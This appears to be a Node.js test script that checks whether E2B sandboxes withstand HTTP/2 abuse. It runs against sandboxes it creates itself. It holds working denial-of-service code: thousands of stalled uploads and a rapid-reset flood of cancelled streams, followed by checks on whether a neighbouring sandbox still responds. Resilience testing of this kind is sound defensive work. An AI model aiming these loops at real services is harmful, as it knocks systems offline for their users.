// An attacker on HTTP/2: thousands of uploads that stand still, and thousands of streams that are
// taken back at once. Prints what became of them, and what others saw meanwhile and afterwards.
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { connect, constants } from 'node:http2'
import { setTimeout as sleep } from 'node:timers/promises'

const { E2B_DOMAIN: DOMAIN, E2B_API_KEY: KEY } = process.env
const ca = readFileSync(process.env.NODE_EXTRA_CA_CERTS)
const CONNECTIONS = 5
const STREAMS = 3000
const RESETS = 10_000
const PATIENCE_MS = 60_000

async function api(method, path, body) {
  const headers = { 'X-API-Key': KEY, 'Content-Type': 'application/json' }
  return fetch(`https://api.${DOMAIN}${path}`, { method, headers, body })
}

async function create() {
  const answer = await api('POST', '/v2/sandboxes', '{"templateID": "base", "timeout": 600}')
  return answer.json()
}

async function open(sandbox) {
  const session = connect(`https://49983-${sandbox.sandboxID}.${DOMAIN}`, { ca })
  session.setMaxListeners(0)
  session.on('error', () => {})
  await once(session, 'remoteSettings')
  return session
}

/** Whether a sandbox answers: a listing of its processes, on a connection of its own. */
async function answers(sandbox) {
  const session = await open(sandbox)
  const head = { 'content-type': 'application/json', 'x-access-token': sandbox.envdAccessToken }
  const request = session.request({ ':method': 'POST', ':path': '/process.Process/List', ...head })
  request.end('{}')
  const [response] = await once(request, 'response')
  session.close()
  return response[':status']
}

async function eventually(what) {
  const deadline = Date.now() + PATIENCE_MS
  while (!(await what()) && Date.now() < deadline) await sleep(200)
}

const [victim, other] = await Promise.all([create(), create()])
const seen = { refused: 0, others: [] }

const sessions = await Promise.all(Array.from({ length: CONNECTIONS }, () => open(victim)))
for (let number = 0; number < STREAMS; number++) {
  const upload = sessions[number % CONNECTIONS].request({
    ':method': 'POST',
    ':path': `/files?path=/tmp/stalled-${number}`,
    'content-type': 'application/octet-stream',
    'content-length': '1000',
    'x-access-token': victim.envdAccessToken,
  })
  upload.on('error', () => {})
  upload.on('response', (head) => (seen.refused += head[':status'] === 429))
  upload.write('x')
}
// There are more than a sandbox takes, so some are refused; all others hold their places.
await eventually(() => seen.refused >= STREAMS - 2048)
seen.others.push(await answers(other))
for (const session of sessions) session.destroy()
await eventually(async () => (await answers(victim)) === 200)
seen.victim = await answers(victim)

const session = await open(victim)
for (let number = 0; number < RESETS && !session.destroyed; number++) {
  const request = session.request({ ':path': '/health' })
  request.on('error', () => {})
  request.close(constants.NGHTTP2_CANCEL)
  if (number % 100 === 0) await sleep(0)
}
seen.others.push(await answers(other), await answers(victim))
session.destroy()
for (const sandbox of [victim, other]) await api('DELETE', `/sandboxes/${sandbox.sandboxID}`)
console.log(JSON.stringify(seen))
process.exit(0)
